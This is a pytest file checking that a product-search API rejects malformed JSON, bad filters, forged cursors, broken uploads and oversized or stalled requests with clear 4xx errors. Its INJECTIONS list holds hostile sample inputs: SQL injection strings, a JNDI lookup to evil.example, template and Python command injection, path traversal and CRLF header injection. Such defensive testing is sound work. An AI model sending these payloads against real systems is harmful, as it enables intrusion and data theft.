"""Whatever is sent, the answer is a problem that says what is wrong, and never a 5xx."""

from __future__ import annotations

import json
import socket
import time
from urllib.parse import urlsplit

import httpx
import pytest
from tests.serve.serving import Serve, Served, code_of, draw, until

from vitrine.serve.bodies import parse_form

JSON = {"Content-Type": "application/json"}
MB = 2**20

INJECTIONS = (
    "' OR 1=1 --",
    "'; DROP TABLE products; --",
    '" OR ""="',
    "women') UNION SELECT sql FROM sqlite_master --",
    "%' AND 1=(SELECT COUNT(*) FROM api_keys) --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "__import__('os').system('id')",
    "../../etc/passwd",
    "a\r\nX-Injected: 1",
    "🧥" * 200,
    "\u202egnp.exe",
)


def post(ask: Served, body: bytes | str, path: str = "/v1/search") -> httpx.Response:
    return ask("POST", path, content=body, headers=JSON)


@pytest.mark.parametrize(
    ("body", "complaint"),
    [
        ("", "Expecting value"),
        ("{", "Expecting property name"),
        ("[]", "must be an object"),
        ("null", "must be an object"),
        (b'{"text": "\xff"}', "not UTF-8 at byte 10"),
        ('{"text": "a", "text": "b"}', "names a field twice"),
        ('{"text": "\\ud800"}', "half of a surrogate pair"),
        ('{"text": "a\\u0000b"}', "NUL"),
        ('{"where": {"price": {"lte": NaN}}}', "NaN is no number"),
        ('{"crop": [NaN, 0, 1, 1]}', "NaN is no number"),
        ('{"where": {"price": {"lte": -Infinity}}}', "-Infinity is no number"),
        ('{"where": {"price": {"lte": 1e999}}}', "1e999 is beyond reason"),
        ('{"where": {"price": {"lte": ' + "9" * 5000 + "}}}", "beyond reason"),
        ("[" * 100_000, "nested deeper than 32"),
        ('{"where": ' * 40 + "{}" + "}" * 40, "nested deeper than 32"),
        ('{"like": ' + "[" * 50_000 + "]" * 50_000 + "}", "nested deeper than 32"),
    ],
    ids=lambda value: str(value)[:24] if isinstance(value, str) else "bytes",
)
def test_json_that_is_none(ask: Served, body: bytes | str, complaint: str) -> None:
    if body == "":
        body = " "
    response = post(ask, body)
    assert (response.status_code, code_of(response)) == (400, "malformed_json")
    assert complaint in response.json()["detail"]


@pytest.mark.parametrize(
    ("question", "field"),
    [
        ({"text": "x", "limit": 3}, "limit"),
        ({"text": "x", "k": 10**9}, "k"),
        ({"text": "x", "k": 0}, "k"),
        ({"text": "x", "k": "many"}, "k"),
        ({"text": 7}, "text"),
        ({"text": "x" * 501}, "text"),
        ({"like": ["p1"] * 21}, "like"),
        ({"like": [""]}, "like.0"),
        ({"like": "p1"}, "like"),
        ({"text": "x", "crop": [0, 0, 1]}, "crop"),
        ({"text": "x", "crop": [0, 0, 2, 1]}, "crop.2"),
        ({"text": "x", "crop": ["NaN", 0, 1, 1]}, "crop.0"),
        ({"text": "x", "sort": "cheapest"}, "sort"),
        ({"text": "x", "group_by": "colour"}, "group_by"),
        ({"text": "x", "min_score": 1.5}, "min_score"),
        ({"text": "x", "facets": ["a"] * 21}, "facets"),
        ({"like": ["p1"], "where": 7}, "where.dict[str,any]"),
    ],
)
def test_fields_that_do_not_fit_are_named(
    ask: Served, question: dict[str, object], field: str
) -> None:
    response = ask.search(**question)
    assert (response.status_code, code_of(response)) == (422, "invalid")
    assert field in [error["field"] for error in response.json()["errors"]]


@pytest.mark.parametrize(
    ("where", "complaint"),
    [
        ({"colur": "red"}, "Did you mean 'colour'?"),
        ({"price": {"lte": "cheap"}}, "finite number"),
        ({"price": {"lte": True}}, "finite number"),
        ({"gender": {"like": "w%"}}, "no operator is called 'like'"),
        ({"gender": {"$ne": "women"}}, "operator"),
        ({"not": []}, "a filter is an object"),
        ({"and": {"a": 1}}, "takes a list"),
        ("price<<50", "compared with one number"),
        ("gender=women;DROP TABLE products", "cannot read the filter"),
        ('{"gender": ', "not valid JSON"),
    ],
)
def test_filters_that_do_not_read(ask: Served, where: object, complaint: str) -> None:
    response = ask.search(like=["p1"], where=where)
    assert (response.status_code, code_of(response)) == (422, "query_invalid")
    assert complaint in response.json()["detail"]


def test_a_filter_is_never_more_than_a_filter(ask: Served) -> None:
    for text in INJECTIONS:
        as_value = ask.search(like=["p1"], where={"gender": text, "brand": [text]})
        assert (as_value.status_code, as_value.json()["hits"]) == (200, [])
        as_name = ask.search(like=["p1"], where={text: "x"})
        assert code_of(as_name) == "query_invalid"
        assert "x-injected" not in as_name.headers
        as_words = ask.search(text=text)
        assert as_words.status_code in (200, 422)
        as_id = ask("GET", "/v1/products/p1/similar", params={"where": f"gender={text}"})
        assert as_id.status_code in (200, 422)
        assert code_of(ask.search(like=[text])) == "product_not_found"
    assert len(ask.search(like=["p0"], k=100).json()["hits"]) == 7


@pytest.mark.parametrize(
    ("question", "complaint"),
    [
        ({"like": ["p1"], "crop": [0, 0, 1, 1]}, "crop goes with one photo"),
        ({"like": ["p1"], "facets": ["colur"]}, "no facet is called 'colur'"),
        ({"text": "x", "but": "red"}, "changes a photo or a product"),
        ({"dislike": ["p1"]}, "nothing to search by"),
        ({"like": ["p1"], "sort": "newest", "diversity": 0.5}, "leave one of them out"),
    ],
)
def test_searches_that_make_no_sense(
    ask: Served, question: dict[str, object], complaint: str
) -> None:
    response = ask.search(**question)
    assert (response.status_code, code_of(response)) == (422, "query_invalid")
    assert complaint in response.json()["detail"]


def test_a_crop_that_holds_nothing(ask: Served) -> None:
    question = {"query": '{"crop": [0.5, 0, 0.5, 1]}'}
    response = ask("POST", "/v1/search", files={"photo": draw(1)}, data=question)
    assert "holds nothing" in response.json()["detail"]


@pytest.mark.parametrize("cursor", ["x", "AAAA", "A" * 24, "é", "'; --", "====", "A" * 200])
def test_a_forged_cursor(ask: Served, cursor: str) -> None:
    response = ask.search(like=["p1"], cursor=cursor)
    assert (response.status_code, code_of(response)) == (400, "cursor_invalid")


def test_a_cursor_of_another_search(ask: Served) -> None:
    cursor = ask.search(like=["p1"], k=2).json()["next_cursor"]
    assert ask.search(like=["p1"], k=2, cursor=cursor).status_code == 200
    for other in ({"like": ["p2"], "k": 2}, {"like": ["p1"], "k": 3}):
        assert code_of(ask.search(**other, cursor=cursor)) == "cursor_invalid"
    moved = ("B" if cursor[0] == "A" else "A") + cursor[1:]
    assert code_of(ask.search(like=["p1"], k=2, cursor=moved)) == "cursor_invalid"


@pytest.mark.parametrize(
    ("content_type", "body", "code"),
    [
        ("multipart/form-data", b"x", "malformed_form"),
        ("multipart/form-data; boundary=b", b"not a form", "malformed_form"),
        ("multipart/form-data; boundary=b", b"", "malformed_form"),
        ("multipart/form-data; boundary=b", b"--b\r\n\r\nx\r\n--b--\r\n", "malformed_form"),
        (
            "multipart/form-data; boundary=b",
            b'--b\r\nContent-Disposition: form-data; name="photo"; filename="a"\r\n\r\nabc',
            "malformed_form",
        ),
        (
            "multipart/form-data; boundary=" + "b" * 500,
            b"--" + b"b" * 500 + b"--",
            "malformed_form",
        ),
        ("text/plain", b"x", "media_type_unsupported"),
        ("application/x-www-form-urlencoded", b"text=x", "media_type_unsupported"),
        ("", b"{}", "media_type_unsupported"),
    ],
)
def test_forms_that_are_none(ask: Served, content_type: str, body: bytes, code: str) -> None:
    for path in ("/v1/search", "/v1/tags"):
        response = ask("POST", path, content=body, headers={"Content-Type": content_type})
        assert code_of(response) == code


def test_parts_that_nobody_asked_for(ask: Served) -> None:
    photo = {"photo": draw(1)}
    assert code_of(ask("POST", "/v1/search", files={"file": draw(1)})) == "malformed_form"
    assert code_of(ask("POST", "/v1/search", data={"k": "3"}, files=photo)) == "malformed_form"
    assert code_of(ask("POST", "/v1/tags", data={"query": "{}"}, files=photo)) == "malformed_form"
    twice = [("photo", draw(1)), ("photo", draw(2))]
    assert code_of(ask("POST", "/v1/search", files=twice)) == "malformed_form"
    question = {"query": '{"k": 3, "z": 1}'}
    assert code_of(ask("POST", "/v1/search", data=question, files=photo)) == "invalid"
    assert code_of(ask("POST", "/v1/search", data={"query": "{}"}, files={"photo": b""})) == (
        "malformed_form"
    )


@pytest.mark.parametrize(
    ("photo", "reason"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "unsupported_format"),
        (b"GIF89a", "truncated"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "broken"),
        (b"hello", "not_an_image"),
        (draw(1)[:150], "truncated"),
    ],
)
def test_photos_that_are_none(ask: Served, photo: bytes, reason: str) -> None:
    for path in ("/v1/search", "/v1/tags"):
        response = ask("POST", path, files={"photo": photo})
        assert (response.status_code, code_of(response)) == (422, "photo_invalid")
        assert response.json()["photo_code"] == reason


def test_an_upload_never_touches_the_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_given: object, **_named: object) -> None:
        raise AssertionError("a photo was about to be written to disk")

    for name in ("TemporaryFile", "NamedTemporaryFile", "SpooledTemporaryFile", "mkstemp"):
        monkeypatch.setattr(f"tempfile.{name}", refuse)
    photo = bytes(3 * MB)
    request = httpx.Request("POST", "http://localhost/", files={"photo": ("a.png", photo)})
    form = parse_form(request.read(), request.headers["content-type"])
    assert form.photo == photo


def test_an_upload_of_fifty_megabytes(ask: Served) -> None:
    upload = b"\xff\xd8" + bytes(50 * MB)
    announced = ask("POST", "/v1/search", files={"photo": upload})
    assert (announced.status_code, code_of(announced)) == (413, "body_too_large")

    def chunks() -> object:
        yield from (upload[at : at + MB] for at in range(0, len(upload), MB))

    unannounced = ask(
        "POST",
        "/v1/search",
        content=chunks(),
        headers={"Content-Type": "multipart/form-data; boundary=b"},
    )
    assert code_of(unannounced) == "body_too_large"
    assert code_of(post(ask, b" " * MB)) == "body_too_large"
    until(lambda: ask.service.bodies.n_taken == 0)
    assert ask.search(text="dress").status_code == 200


def test_a_photo_that_is_too_large_inside_a_form_that_is_not(serve: Serve) -> None:
    with serve(serve_upload_mb=0.0001) as own:
        assert code_of(own("POST", "/v1/tags", files={"photo": draw(1)})) == "body_too_large"
    with serve(serve_upload_megapixels=0.001) as own:
        response = own("POST", "/v1/tags", files={"photo": draw(1)})
        assert (code_of(response), response.json()["photo_code"]) == (
            "photo_invalid",
            "too_many_pixels",
        )


def test_an_upload_that_never_ends(serve: Serve) -> None:
    with serve(serve_upload_timeout_s=0.4) as own:
        place = urlsplit(own.url)
        with socket.create_connection((place.hostname or "", place.port or 0), 10) as slow:
            slow.sendall(
                b"POST /v1/search HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n"
                b"Content-Type: application/json\r\n\r\n{"
            )
            started = time.monotonic()
            assert own.search(text="dress").status_code == 200  # nobody waits for it
            answer = slow.recv(65536)
            while b"}" not in answer:
                answer += slow.recv(65536)
            assert 0.3 < time.monotonic() - started < 5
        assert answer.startswith(b"HTTP/1.1 408 ")
        assert json.loads(answer.split(b"\r\n\r\n", 1)[1])["code"] == "body_too_slow"
        until(lambda: own.service.bodies.n_taken == 0)


def test_a_client_that_goes_away_leaves_nothing(serve: Serve) -> None:
    with serve() as own:
        place = urlsplit(own.url)
        with socket.create_connection((place.hostname or "", place.port or 0), 10) as gone:
            gone.sendall(
                b"POST /v1/search HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n"
                b"Content-Type: application/json\r\n\r\n{" + b" " * 500
            )
            until(lambda: own.service.bodies.n_taken > 0)
        until(lambda: own.service.bodies.n_taken == 0)
        assert own("GET", "/livez").status_code == 200


def test_addresses_that_do_not_fit(ask: Served) -> None:
    for asked in ({"k": "x"}, {"k": "1000000000"}, {"z": "1"}, {"where": "x" * 2001}):
        assert code_of(ask("GET", "/v1/products/p1/similar", params=asked)) == "invalid"
    for path in ("/v1/products/%00", "/v1/products/%ff", "/v1/products/" + "x" * 5000):
        assert code_of(ask("GET", path)) == "product_not_found"
